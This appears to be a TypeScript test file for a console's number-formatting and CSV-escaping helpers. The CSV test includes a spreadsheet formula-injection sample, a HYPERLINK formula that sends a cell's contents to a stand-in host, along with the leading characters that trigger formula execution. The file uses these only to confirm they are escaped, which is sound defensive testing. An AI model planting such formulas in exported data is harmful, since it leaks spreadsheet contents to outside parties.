import { describe, expect, test } from "bun:test";
import { csvCell, formatCredit, formatCredits } from "../../console/src/lib/format.ts";

describe("console money figures", () => {
  test("a fixed number of decimals, so figures line up; amounts too small to show say so", () => {
    expect(formatCredit(0)).toBe("0.0000");
    expect(formatCredit(2.5)).toBe("2.5000");
    expect(formatCredit(1234.56789)).toBe("1,234.5679");
    expect(formatCredit(-0.03)).toBe("-0.0300");
    expect(formatCredit(0.00001)).toBe("< 0.0001");
    expect(formatCredit(-0.00001)).toBe("> -0.0001");
    expect(formatCredit(null)).toBe("—");
  });

  test("standing alone, with the unit", () => {
    expect(formatCredits(12.34)).toBe("12.3400 credits");
    expect(formatCredits(undefined)).toBe("—");
  });
});

describe("CSV cells", () => {
  test("text a spreadsheet would run as a formula stays text; separators are quoted; numbers are as they are", () => {
    expect(csvCell('=HYPERLINK("https://x.example/?a="&A1,"open")')).toBe(`"'=HYPERLINK(""https://x.example/?a=""&A1,""open"")"`);
    for (const lead of ["+", "-", "@", "\t", "\r"]) expect(csvCell(`${lead}cmd`).replace(/^"/, "").startsWith("'")).toBe(true);
    expect(csvCell("gpt-4o, mini")).toBe('"gpt-4o, mini"');
    expect(csvCell("gpt-4o")).toBe("gpt-4o");
    expect(csvCell(-0.5)).toBe("-0.5");
    expect(csvCell(null)).toBe("");
  });
});
